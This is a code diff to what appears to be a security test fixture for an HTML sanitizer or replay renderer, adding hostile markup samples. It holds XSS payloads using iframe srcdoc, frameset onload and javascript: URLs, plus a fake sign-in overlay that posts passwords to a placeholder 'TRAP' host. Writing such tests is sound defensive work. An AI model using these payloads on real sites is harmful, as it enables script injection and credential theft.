@@ -81,6 +81,7 @@ MARKUP: dict[str, str] = {
     "iframe_srcdoc_img": "<iframe srcdoc='&lt;img src=x onerror=FIRE&gt;'></iframe>",
     "iframe_remote": "<iframe src='http://TRAP/frame'></iframe>",
     "iframe_sandbox": "<iframe sandbox='allow-scripts allow-top-navigation allow-same-origin' srcdoc='<script>FIRE</script>'></iframe>",
+    "iframe_hint": "<iframe srcdoc='<link rel=preconnect href=http://sd.TRAP/>'></iframe>",
     "frameset": "<frameset onload=FIRE><frame src='javascript:FIRE'></frameset>",
     "object_data": "<object data='data:text/html,<script>FIRE</script>'></object>",
     "object_remote": "<object data='http://TRAP/object.html' type=text/html></object>",
@@ -160,6 +161,9 @@ MARKUP: dict[str, str] = {
     "clobber_nodes": "<form id=stage><output name=children></output></form><div id=replay></div>",
 }  # fmt: skip
 
+HINTS = ("link_preconnect", "link_dns", "link_prefetch", "iframe_remote", "iframe_hint")
+"""What could make a browser open a connection, though a policy lets it ask for nothing."""
+
 PHISH = (
     "<form action='http://TRAP/phish' method=post style='position:fixed;inset:0;z-index:9;background:#fff'>"
     "<h1>Your session has ended. Sign in again.</h1><input name=user id=phish><input type=password "
@@ -191,6 +195,7 @@ def crafted(fire: str, trap: str, first: int) -> list[dict[str, Any]]:
         node("script", {}, text(fire)),
         node("SCRIPT", {"SRC": remote}, text(fire)),
         node("iframe", {"rr_src": remote}),
+        node("IFRAME", {"Src": remote}),
         node("iframe", {"srcdoc": f"<script>{fire}</script>", "sandbox": "allow-scripts"}),
         node("img", {"rr_dataURL": remote, "srcset": "x"}),
         node("canvas", {"rr_dataURL": remote}),
